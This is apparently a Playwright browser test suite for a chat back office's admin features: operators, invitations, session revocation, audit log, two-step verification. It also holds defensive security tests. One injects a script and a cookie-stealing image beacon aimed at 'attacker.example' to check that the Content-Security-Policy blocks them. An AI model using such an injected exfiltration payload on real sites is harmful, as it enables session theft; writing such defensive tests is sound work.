"""The back office's admin side in a real browser: operators (create, invite, role, block, their
sessions), the invitation link, team channels, sessions, the audit log, TOTP enrolment.

Select with ``pytest -m browser``.
"""

from __future__ import annotations

import re
from typing import Any

import pytest

pytest.register_assert_rewrite("tests.browser_support")  # it is also a plugin (below): rewrite it once

from tests.browser_support import (  # noqa: E402
    ADMIN,
    MIA,
    TENANT,
    screenshot,
    sign_in,
    submit_sign_in,
)

pytestmark = [pytest.mark.e2e, pytest.mark.browser]
pytest_plugins = ["tests.browser_support"]  # the fixtures: one stack and one browser for all browser tests

NINA = {"email": "nina@shop.test", "name": "Nina", "password": "nina-correct-horse-battery"}


def expect(target: Any) -> Any:
    from playwright.sync_api import expect as _expect

    return _expect(target)


def invite(page: Any, email: str, name: str, password: str | None = None) -> None:
    page.get_by_label("E-mail").fill(email)
    page.get_by_label("Name").fill(name)
    if password:
        page.get_by_label("Password (optional)").fill(password)
    page.get_by_role("button", name="Invite").click()


def test_an_admin_manages_operators_team_channels_sessions_and_the_audit_log(browser_stack, pages):
    # Given the admin in the back office
    admin = pages()
    admin.on("dialog", lambda d: d.accept())
    sign_in(admin, browser_stack, ADMIN)
    expect(admin.locator("#who")).to_have_text("Ada (admin)")

    # When they add an operator with a password
    admin.get_by_role("link", name="Operators").click()
    invite(admin, NINA["email"], NINA["name"], NINA["password"])
    expect(admin.locator(".result")).to_have_text("Operator created.")
    row = admin.locator(f"tr[data-email='{NINA['email']}']")
    expect(row).to_contain_text("active")

    # Then they can change the role and block and unblock
    row.get_by_label(f"Role of {NINA['email']}").select_option("admin")
    expect(admin.locator("#toast")).to_contain_text("is now admin")
    expect(row.get_by_label(f"Role of {NINA['email']}")).to_have_value("admin")
    row.get_by_role("button", name=f"Block {NINA['email']}").click()
    expect(row).to_contain_text("blocked")
    row.get_by_role("button", name=f"Unblock {NINA['email']}").click()
    expect(row).to_contain_text("active")
    row.get_by_label(f"Role of {NINA['email']}").select_option("operator")
    expect(row.get_by_label(f"Role of {NINA['email']}")).to_have_value("operator")

    # And a team channel with Nina: she sees it and reads the message
    nina = pages()
    sign_in(nina, browser_stack, NINA)
    expect(nina.locator("#who")).to_have_text("Nina (operator)")
    admin.get_by_role("link", name="Team").click()
    admin.get_by_text("New team channel").click()
    admin.get_by_placeholder("Channel name").fill("Escalations")
    admin.get_by_label("Nina").check()
    admin.get_by_role("button", name="Create").click()
    expect(admin.locator("#conv-title")).to_have_text("Escalations")
    admin.get_by_role("textbox", name="Reply").fill("Welcome to the team channel")
    admin.get_by_role("textbox", name="Reply").press("Enter")
    expect(admin.locator("#messages")).to_contain_text("Welcome to the team channel")
    nina.get_by_role("link", name="Team").click()
    nina.locator(".channel", has_text="Escalations").get_by_role("link").click()
    expect(nina.locator("#messages")).to_contain_text("Welcome to the team channel")
    # and Nina, an operator, starts one with the admin, picked by name from the staff directory
    nina.get_by_text("New team channel").click()
    nina.get_by_placeholder("Channel name").fill("Rota")
    nina.get_by_label("Ada (admin)").check()
    with nina.expect_response(lambda r: r.url.endswith("/staff")):  # closed and opened: read again
        nina.get_by_text("New team channel").click()
        nina.get_by_text("New team channel").click()
    expect(nina.get_by_label("Ada (admin)")).to_be_checked()  # and what was ticked stays ticked
    nina.get_by_role("button", name="Create").click()
    expect(nina.locator("#conv-title")).to_have_text("Rota")

    # And the admin sees Nina's one session (her browser's) and revokes it
    admin.get_by_role("link", name="Operators").click()
    opener = admin.get_by_role("button", name=f"Sessions of {NINA['email']}")
    opener.click()
    expect(opener).to_have_attribute("aria-expanded", "true")
    panel = admin.get_by_role("region", name=f"Sessions of Nina ({NINA['email']})")
    expect(panel.get_by_role("heading")).to_be_focused()
    expect(panel.get_by_role("status")).to_have_text("1 live session")
    nina_sessions = panel.get_by_role("table", name=f"Sessions of {NINA['email']}")
    expect(nina_sessions.locator("tbody tr")).to_have_count(1)
    expect(nina_sessions.locator("tbody tr td").nth(0)).to_contain_text("Chrome")  # the device: her user agent
    expect(nina_sessions.locator("tbody tr td").nth(1)).to_have_text("password")
    screenshot(admin, "backoffice-operator-sessions")
    nina_sessions.get_by_role("button", name=re.compile(r"^Revoke session on .*Chrome")).click()
    expect(admin.locator("#toast")).to_contain_text(f"A session of {NINA['email']} was revoked.")

    # Then the list shows none, and Nina's back office returns to the sign-in page at once
    expect(panel.get_by_role("status")).to_have_text("No live sessions.")
    expect(admin.locator("#op-sessions tbody tr")).to_have_count(0)
    expect(nina.get_by_role("alert")).to_have_text("You were signed out: your session was revoked.")
    expect(nina.get_by_role("button", name="Sign in")).to_be_visible()
    panel.get_by_role("button", name="Hide these sessions").click()
    expect(panel).to_be_hidden()
    expect(opener).to_be_focused()
    expect(opener).to_have_attribute("aria-expanded", "false")

    # And the sessions page lists this browser's session
    admin.get_by_role("link", name="Sessions").click()
    expect(admin.get_by_role("table", name="Your sessions")).to_contain_text("(this one)")

    # And the audit log shows what happened, newest first
    admin.get_by_role("link", name="Audit log").click()
    events = admin.get_by_role("table", name="Audit events")
    expect(events).to_contain_text("operator_created")
    expect(events).to_contain_text("sign_in")
    screenshot(admin, "backoffice-audit")

    # When the admin removes Nina, she is gone from the list
    admin.get_by_role("link", name="Operators").click()
    admin.get_by_role("button", name=f"Remove {NINA['email']}").click()
    expect(admin.locator(f"tr[data-email='{NINA['email']}']")).to_have_count(0)

    for page in (admin, nina):
        assert page.errors == [], page.errors


def test_an_invited_operator_sets_a_password_from_the_link_and_is_signed_in(browser_stack, pages):
    # Given the admin invites an operator without a password
    admin = pages()
    sign_in(admin, browser_stack, ADMIN)
    expect(admin.locator("#who")).to_have_text("Ada (admin)")
    admin.get_by_role("link", name="Operators").click()
    invite(admin, "ivy@shop.test", "Ivy")
    expect(admin.locator(".result")).to_contain_text("#/invite/")
    link = re.search(r"https?://\S+#/invite/\S+", admin.locator(".result").inner_text())
    assert link, admin.locator(".result").inner_text()
    ivy = pages()
    ivy.goto(link.group(0))
    ivy.get_by_label("New password").fill("ivy-correct-horse-battery")
    ivy.get_by_label("Repeat it").fill("ivy-correct-horse-battery")
    ivy.get_by_role("button", name="Set password and sign in").click()
    expect(ivy.locator("#who")).to_have_text("Ivy (operator)", timeout=3000)

    assert ivy.errors == [], ivy.errors


def test_an_operator_turns_on_two_step_verification(browser_stack, pages):
    import pyotp

    # Given an operator without a second factor, signed in on two computers
    page, other = pages(), pages()
    for each in (other, page):
        sign_in(each, browser_stack, MIA)
        expect(each.locator("#who")).to_have_text("Mia (operator)")

    # When she enrolls from the Security page with a code from her app
    page.get_by_role("link", name="Security").click()
    page.get_by_role("button", name="Set up two-step verification").click()
    expect(page.get_by_role("img", name="QR code for your authenticator app")).to_be_visible()
    secret = page.locator("#totp-secret").inner_text()
    page.get_by_label("Code from the app").fill(pyotp.TOTP(secret).now())
    page.get_by_role("button", name="Turn on").click()
    expect(page.locator("form + p[role=status]")).to_have_text(
        "Two-step verification is on. Your other sessions (1) were signed out.")
    # Then the other computer, signed in with the password alone, is signed out at once
    expect(other.get_by_role("alert")).to_have_text("You were signed out: your session was revoked.")

    # And her next sign-in asks for a code, and a wrong one is refused
    page.get_by_role("button", name="Sign out").click()
    sign_in(page, browser_stack, MIA)
    expect(page.get_by_role("heading", name="Two-step verification")).to_be_visible()
    page.get_by_label("Code").fill("000000" if pyotp.TOTP(secret).now() != "000000" else "111111")
    page.get_by_role("button", name="Verify").click()
    expect(page.get_by_role("alert")).to_contain_text("not valid")

    # And when she has lost her phone, an admin resets it from the Operators page
    admin = pages()
    admin.on("dialog", lambda d: d.accept())
    sign_in(admin, browser_stack, ADMIN)
    admin.get_by_role("link", name="Operators").click()
    row = admin.locator(f'tr[data-email="{MIA["email"]}"]')
    expect(row.locator("td").nth(3)).to_have_text("on")
    admin.get_by_role("button", name=f"Reset MFA of {MIA['email']}").click()
    expect(admin.locator("#toast")).to_contain_text(f"Two-step verification of {MIA['email']} was reset.")
    expect(row.locator("td").nth(3)).to_have_text("off")
    expect(admin.get_by_role("button", name=f"Reset MFA of {MIA['email']}")).to_have_count(0)
    # after which her password alone signs her in again
    sign_in(page, browser_stack, MIA)
    expect(page.locator("#who")).to_have_text("Mia (operator)")
    assert page.errors == [] and other.errors == [] and admin.errors == [], (page.errors, other.errors, admin.errors)


def test_a_link_cannot_point_the_pages_at_another_server(browser_stack, pages):
    # Given links to the real back office and demo page that name another API and WebSocket server
    # (an attacker's, which would take the password typed in, or the chat token it connects with)
    elsewhere = "127.0.0.1:9"  # the discard port: nothing answers there
    link = f"?api=http://{elsewhere}&ws=ws://{elsewhere}&tenant={TENANT}"
    page = pages()
    went: list[str] = []
    page.on("request", lambda r: went.append(r.url))
    page.on("websocket", lambda ws: went.append(ws.url))
    # When an admin signs in through the back office link
    page.goto(f"{browser_stack.web}/backoffice/{link}")
    submit_sign_in(page, ADMIN)
    # Then the sign-in and the chat connection went to the APIs the host's served config names
    expect(page.locator("#who")).to_have_text("Ada (admin)")
    expect(page.locator("#conn")).to_have_text("Live")
    # And a visitor on the demo page link chats through them too
    visitor = pages()
    visitor.on("request", lambda r: went.append(r.url))
    visitor.on("websocket", lambda ws: went.append(ws.url))
    visitor.goto(f"{browser_stack.web}/demo/{link}")
    visitor.get_by_role("button", name=re.compile("^Open chat")).click()
    visitor.get_by_role("textbox", name="Message").fill("hello")
    visitor.get_by_role("textbox", name="Message").press("Enter")
    expect(visitor.locator(".log li.mine:not(.pending)")).to_contain_text(["hello"])
    # And nothing went to the server the links named
    named = (f"http://{elsewhere}/", f"ws://{elsewhere}/", f"ws://{elsewhere}?")
    assert not [url for url in went if url.startswith(named)], went
    assert any(url.startswith(browser_stack.http) for url in went) and any(url.startswith(browser_stack.ws)
                                                                           for url in went)


def test_the_back_office_runs_no_script_but_its_own(browser_stack, pages):
    # Given the back office, served with the Content-Security-Policy CloudFront gives it
    page = pages()
    response = page.goto(browser_stack.backoffice_url)
    assert "script-src 'self'" in response.headers["content-security-policy"]
    expect(page.get_by_role("button", name="Sign in")).to_be_visible()  # its own script runs
    # When something manages to put a script into the page (what stored XSS would do)
    page.evaluate("""() => {
        const s = document.createElement("script");
        s.textContent = "window.injected = true";
        document.body.appendChild(s);
        const img = document.createElement("img");
        img.src = "https://attacker.example/steal?c=" + encodeURIComponent(document.cookie);
        document.body.appendChild(img);
    }""")
    # Then it does not run, and the beacon is not sent; the browser reports both refusals
    page.wait_for_timeout(200)
    assert page.evaluate("window.injected") is None
    assert len(page.csp_violations) == 2, page.csp_violations
    page.csp_violations.clear()  # expected here: the fixture fails any other test on one


def test_a_tab_copied_from_a_signed_in_tab_signs_in_on_its_own(browser_stack, pages):
    # Given an admin signed in to the back office (no second factor: the test is about the tab)
    first = pages()
    sign_in(first, browser_stack, ADMIN)
    expect(first.locator("#who")).to_have_text("Ada (admin)")
    # When the tab is duplicated: a second tab of the same browser starts with a copy of its
    # sessionStorage, the same refresh token (two tabs rotating it would look like theft to the API)
    stored = first.evaluate("() => JSON.stringify(Object.assign({}, sessionStorage))")
    second = first.context.new_page()
    second.add_init_script(f"Object.entries({stored}).forEach(([k, v]) => sessionStorage.setItem(k, v))")
    second.goto(first.url)
    # Then the copy leaves that session to the first tab and asks for a sign-in of its own
    expect(second.get_by_role("alert")).to_contain_text("signed in in another tab")
    assert second.evaluate("() => sessionStorage.getItem('sb.tokens')") is None
    # And the first tab's session goes on: it refreshes, and the back office stays live
    before = first.evaluate("() => window.switchboardBackoffice.auth.tokens.refresh_token")
    first.evaluate("() => window.switchboardBackoffice.auth.refresh()")
    assert first.evaluate("() => window.switchboardBackoffice.auth.tokens.refresh_token") != before
    expect(first.locator("#conn")).to_have_text("Live")
    # And the second tab signed in has a session of its own
    submit_sign_in(second, ADMIN)
    expect(second.locator("#who")).to_have_text("Ada (admin)")
    sid = "() => JSON.parse(atob(window.switchboardBackoffice.auth.tokens.access_token.split('.')[1]" \
          ".replace(/-/g, '+').replace(/_/g, '/'))).sid"
    assert second.evaluate(sid) != first.evaluate(sid)
    # And a reload is not a copy: the reloaded tab keeps its session
    first.reload()
    expect(first.locator("#who")).to_have_text("Ada (admin)")
    expect(first.locator("#conn")).to_have_text("Live")
